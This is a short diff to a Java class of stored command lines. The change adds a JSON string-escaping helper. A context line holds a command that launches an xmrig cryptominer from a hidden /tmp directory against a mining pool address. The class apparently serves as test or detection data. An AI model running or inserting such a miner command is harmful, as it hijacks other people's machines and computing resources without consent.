@@ -43,4 +43,9 @@ final class Commands {
             of("/tmp/.x/xmrig", "/tmp/.x/xmrig", "-o", "stratum+tcp://203.0.113.66:3333", "--donate-level", "1"));
 
     private Commands() {}
+
+    /** A text as it stands between the quotes of JSON. */
+    static String escaped(String text) {
+        return text.replace("\\", "\\\\").replace("\"", "\\\"");
+    }
 }
